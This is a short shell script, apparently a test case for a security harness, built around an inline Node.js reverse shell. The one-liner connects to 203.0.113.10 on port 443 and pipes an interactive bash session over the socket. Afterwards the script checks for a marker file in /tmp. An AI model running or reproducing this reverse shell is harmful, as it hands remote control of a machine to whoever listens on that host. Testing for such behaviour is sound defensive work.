#!/bin/sh
. /opt/case/case.sh

node -e '
const s = require("net").connect(443, "203.0.113.10", () => {
    const c = require("child_process").spawn("script", ["-qfc", "/bin/bash --norc", "/dev/null"]);
    s.pipe(c.stdin); c.stdout.pipe(s); c.on("exit", () => process.exit()); setTimeout(() => process.exit(), 6000);
});' || true
test -e /tmp/reached
took_place
